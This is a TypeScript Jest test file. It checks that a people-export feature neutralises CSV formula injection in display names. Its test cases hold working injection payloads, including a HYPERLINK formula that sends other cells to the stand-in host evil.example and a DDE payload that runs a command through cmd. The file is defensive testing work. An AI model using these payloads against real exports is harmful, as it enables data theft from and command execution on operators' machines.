/**
 * C44. A person chooses a display name such as `=HYPERLINK("https://evil.example/?"&A1,"x")`. An operator exports all people and
 * opens the file in a spreadsheet, which runs the cell and sends other cells away (CSV injection, CWE-1236).
 * Guard: `src/people/csv.ts#withMark`.
 */
import { expect, test } from '@jest/globals';
import { openMemoryDurable } from '../../adapters/memory.ts';
import { createClock } from '../support/world/clock.ts';
import { openPeople } from '../people/support/people.ts';

test.each([
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1+cmd|"/c calc"!A0',
  '-1+1',
  '@SUM(A1:A9)',
  '＝1+1',
  '＠SUM(A1)',
  "'=1+1",
  // In German or French a semicolon ends a cell, also between two quotation marks that began later.
  'Eve;=HYPERLINK("https://evil.example/?"&A1;"x")',
  'Eve, "";"=1+1";\'@A1;=1',
])('C44 the display name %s reaches no spreadsheet as a formula, and is imported as it was', async displayName => {
  const clock = createClock();
  const people = openPeople(openMemoryDurable({ clock }), clock);
  await people.accounts.add({ name: 'ada', displayName: 'Ada, "the"; Countess' }, 'cli');
  await people.accounts.add({ name: 'eve', displayName, groups: [displayName] }, 'cli');
  const file = await people.exportText('csv');
  // A cell begins at the begin of a line, or after a comma or semicolon, with or without quotation marks.
  expect(file).not.toMatch(/(?:^|[,;])[ "]*(?:[=+\-@\t＝＋－＠]|\r(?!\n))/m);
  expect(file).toContain('ada,"Ada, ""the""; Countess"');
  const there = openPeople(openMemoryDurable({ clock }), clock);
  await there.importText(file);
  expect(await there.accounts.find('eve')).toMatchObject({ displayName, groups: [displayName] });
});
